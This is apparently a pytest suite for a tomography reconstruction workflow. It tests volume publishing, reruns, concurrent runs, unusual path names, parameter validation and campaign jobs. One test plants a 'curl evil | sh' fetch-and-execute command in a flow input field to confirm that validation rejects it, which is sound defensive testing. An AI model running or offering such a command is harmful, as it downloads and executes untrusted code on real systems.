"""What a run publishes is exactly what it made: at a beamline's sizes (a 2048-slice volume),
on the second and third run of a scan, with two runs at once, with paths as people name
them, and nothing started when the parameters cannot work. Whole flows on the local backend
with the CPU engine."""

from __future__ import annotations

import json
import re
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
import tifffile
from click.testing import CliRunner

from tests.conftest import experiment_toml
from tomocupy_gladier.clients.client_factory import local_backend
from tomocupy_gladier.compute.multiscale import read_level
from tomocupy_gladier.runs.catalog import search_local
from tomocupy_gladier.cli import main
from tomocupy_gladier.tools.registry import load_config
from tomocupy_gladier.planning.flow_input import recon_parameters
from tomocupy_gladier.flows import TomocupyFlow
from tomocupy_gladier.planning.plan import plan_run
from tomocupy_gladier.runs.run_record import RECON_STATE, RunRecord
from tomocupy_gladier.demo.synthetic import write_scan

ENGINE = json.dumps([sys.executable, "-m", "tomocupy_gladier.engine"])


def experiment(root: Path, *, nrows: int = 2048, ncols: int = 32, nproj: int = 60,
               scan_name: str = "scan1.h5", recon: str = "") -> tuple[Path, float]:
    """An experiment on local folders with a tall, narrow scan (as a beamline's 2k-row detector
    gives, cut narrow to keep CI fast); returns the experiment file and the true axis."""
    for folder in ("beamline", "facility/raw", "portal"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    truth = write_scan(root / "beamline" / scan_name, nproj=nproj, nrows=nrows, ncols=ncols, seed=3)
    text = experiment_toml(executable=ENGINE).replace(
        "rotation-axis = 256.5", f"rotation-axis = {truth.rotation_axis}\nreconstruction-type = \"full\"\n"
        + recon)
    path = root / "experiment.toml"
    path.write_text(text)
    return path, truth.rotation_axis


def run(config_path: Path, scan: str = "scan1.h5", overrides: dict | None = None,
        rtype: str | None = None) -> RunRecord:
    config = load_config(config_path)
    plan = plan_run(config, scan, recon_parameters(config, overrides, rtype), flow=TomocupyFlow)
    started = plan.client(background=False).run_flow(flow_input=plan.body, label=plan.label)
    return RunRecord(local_backend(config).get_run(started["run_id"]))


def published(root: Path, name: str = "scan1_rec") -> Path:
    return root / "portal" / "published" / "cells" / name


def slices(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.glob("recon_*.tiff"))


def test_a_2048_slice_volume_is_published_whole_with_a_small_run_state(tmp_path):
    config, _ = experiment(tmp_path)
    record = run(config)
    assert record.succeeded, record.failure
    state_bytes = len(json.dumps(record.state))
    assert state_bytes <= 64_000, f"run state {state_bytes} bytes: no per-file lists may travel in it"
    folder = published(tmp_path)
    assert len(slices(folder)) == 2048
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["run_id"] == record.run_id
    listed = {e["path"] for e in manifest["files"]}
    assert {f"recon_{i:05d}.tiff" for i in range(2048)} <= listed
    assert {"previews/xy.png", "previews/xz.png", "previews/yz.png", "tomocupy.log"} <= listed
    [entry] = search_local(load_config(config).local_state_dir, "scan1")
    assert entry.files == len(listed) + 1 and entry.bytes == manifest["bytes"]
    assert sorted(p.rsplit("/", 1)[1] for p in entry.previews) == ["xy.png", "xz.png", "yz.png"]


def test_reruns_with_other_binning_and_rows_publish_only_their_own_slices(tmp_path):
    config, _ = experiment(tmp_path, nrows=64, ncols=64)
    first = run(config)
    assert first.succeeded, first.failure
    second = run(config, overrides={"binning": 1})
    assert second.succeeded, second.failure
    folder = published(tmp_path)
    assert slices(folder) == [f"recon_{i:05d}.tiff" for i in range(32)], "no 64x64 slices left over"
    third = run(config, overrides={"start-row": 8, "end-row": 16, "fbp-filter": "ramp"})
    assert third.succeeded, third.failure
    assert slices(folder) == [f"recon_{i:05d}.tiff" for i in range(8, 16)]
    manifest = json.loads((folder / "manifest.json").read_text())
    files = [p for p in folder.rglob("*") if p.is_file()]
    assert manifest["run_id"] == third.run_id and manifest["file_count"] == len(files) - 1
    zarr = read_level(folder / "volume.ome.zarr")
    assert zarr.shape == (8, 64, 64), "the rerun's OME-Zarr is published with it, of its own rows"
    assert np.array_equal(zarr, np.stack([tifffile.imread(folder / n) for n in slices(folder)]))
    [entry] = search_local(load_config(config).local_state_dir, "scan1")
    assert entry.files == manifest["file_count"] + 1
    facility = tmp_path / "facility" / "raw_rec" / "scan1_rec"
    assert slices(facility) == slices(folder)
    assert sorted(p.name for p in (tmp_path / "facility/raw_rec/scan1_rec.logs").iterdir()) == sorted(
        f"{r.run_id}.{kept}" for r in (first, second, third) for kept in ("log", "previews")), \
        "each run keeps its own log and previews"
    assert [h["run_id"] for h in manifest["history"]] == [second.run_id, first.run_id]


def test_two_runs_of_one_scan_at_once_never_mix(tmp_path):
    config, _ = experiment(tmp_path, nrows=256, ncols=64)
    records: list[RunRecord] = []
    threads = [threading.Thread(target=lambda: records.append(run(config))) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(records) == 2, "both runs started (a new state folder opened twice at once)"
    outcomes = sorted(r.status for r in records)
    manifest = json.loads((published(tmp_path) / "manifest.json").read_text())
    winners = [r for r in records if r.succeeded]
    assert winners and manifest["run_id"] in {r.run_id for r in winners}
    if outcomes == ["FAILED", "SUCCEEDED"]:  # the second came while the first reconstructed
        [loser] = [r for r in records if not r.succeeded]
        assert "is being reconstructed by run" in loser.failure
    assert len(slices(published(tmp_path))) == 256


def test_spaces_and_accents_in_every_path(tmp_path):
    root = tmp_path / "beam time é 2026"
    config, _ = experiment(root, nrows=8, ncols=64, scan_name="scan 1 à.h5")
    record = run(config, "scan 1 à.h5")
    assert record.succeeded, record.failure
    assert len(slices(published(root, "scan 1 à_rec"))) == 8


def test_an_explicit_axis_wins_over_the_automatic_search_of_the_experiment_file(tmp_path):
    config, truth = experiment(tmp_path, nrows=8, ncols=64,
                               recon='rotation-axis-auto = "auto"\nrotation-axis-method = "vo"\n')
    result = CliRunner().invoke(main, ["run", "scan1.h5", "--config", str(config), "--full",
                                       "--rotation-axis", "30.5"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "rotation axis: 30.50 px, rotation-axis option, given on the command line" in result.output
    run_id = result.output.split()[0]
    record = RunRecord(local_backend(load_config(config)).get_run(run_id))
    assert record.flow_input["recon"]["rotation-axis-auto"] == "manual"
    assert record.result(RECON_STATE)["rotation_axis"] == 30.5


@pytest.mark.parametrize("args, message", [
    (["--start-row", "20", "--end-row", "10"], "end-row 10 must be greater than start-row 20"),
    (["--end-row", "5000"], "outside the scan's 8 rows"),
    (["--remove-stripe-method", "ti"], "ti is not implemented by tomocupy-cpu"),
    (["--try", "--full"], "--try and --full contradict each other"),
])
def test_parameters_that_cannot_work_are_refused_before_anything_starts(tmp_path, args, message):
    config, _ = experiment(tmp_path, nrows=8, ncols=64)
    result = CliRunner().invoke(main, ["run", "scan1.h5", "--config", str(config), *args])
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output
    assert not (tmp_path / "facility/raw/scan1.h5").exists(), "the scan was not moved"
    assert local_backend(load_config(config)).store.list_runs() == []


def test_a_flow_input_naming_a_program_is_refused_by_the_flow(tmp_path):
    from tomocupy_gladier.errors import FlowInputError
    from tomocupy_gladier.experiment.validation import validate_flow_input

    config, _ = experiment(tmp_path, nrows=8, ncols=64)
    config = load_config(config)
    plan = plan_run(config, "scan1.h5", recon_parameters(config), flow=TomocupyFlow)
    plan.body["input"]["tomocupy"]["executable"] = ["/bin/sh", "-c", "curl evil | sh"]
    with pytest.raises(FlowInputError, match=re.escape("input.tomocupy: unknown key(s) 'executable'")):
        validate_flow_input(TomocupyFlow.flow_schema, plan.body)


def test_the_backend_chosen_on_the_command_line_is_used_to_follow_the_run(tmp_path):
    """--backend local on a globus experiment: the run, its live log and the return path are local."""
    config, _ = experiment(tmp_path, nrows=4, ncols=64)
    config.write_text(config.read_text().replace('backend = "local"', 'backend = "globus"'))
    result = CliRunner().invoke(main, ["run", "scan1.h5", "--config", str(config), "--backend", "local"],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "    | " in result.output, "the reconstruction's live log is shown"
    assert "reconstruction: " + str(tmp_path / "facility/raw_rec/scan1_rec") in result.output


def test_campaigns_keep_the_local_endpoints_program_and_path(tmp_path):
    """Background workers reload backend.json: a campaign's backend must not wipe it."""
    from tomocupy_gladier.campaign.wiring import local_run_service

    config, _ = experiment(tmp_path, nrows=4, ncols=64)
    local_run_service(load_config(config), "recon")
    env = json.loads((load_config(config).local_state_dir / "backend.json").read_text())["env"]
    assert json.loads(env["TOMOCUPY_GLADIER_PROGRAM"])[1:] == ["-m", "tomocupy_gladier.engine"]
    assert str(Path(sys.executable).parent) in env["PATH"]


def test_a_campaign_job_publishes_its_ome_zarr_with_its_slices(tmp_path):
    config, _ = experiment(tmp_path, nrows=8, ncols=32)
    write_scan(tmp_path / "facility" / "raw" / "scan_a.h5", nproj=60, nrows=8, ncols=32, seed=5)
    manifest = tmp_path / "manifest.toml"
    manifest.write_text('datasets = ["scan_a.h5"]\n[params.default]\n')
    state = ["--config", str(config)]
    assert CliRunner().invoke(main, ["campaign", "create", "z", *state, "--manifest", str(manifest)]).exit_code == 0
    result = CliRunner().invoke(main, ["campaign", "run", "z", *state, "--poll-interval", "0.05"])
    assert result.exit_code == 0, result.output
    folder = published(tmp_path, "scan_a_rec")
    finest = read_level(folder / "volume.ome.zarr")
    assert np.array_equal(finest, np.stack([tifffile.imread(folder / n) for n in slices(folder)]))
    listed = {e["path"] for e in json.loads((folder / "manifest.json").read_text())["files"]}
    assert "volume.ome.zarr/.zattrs" in listed
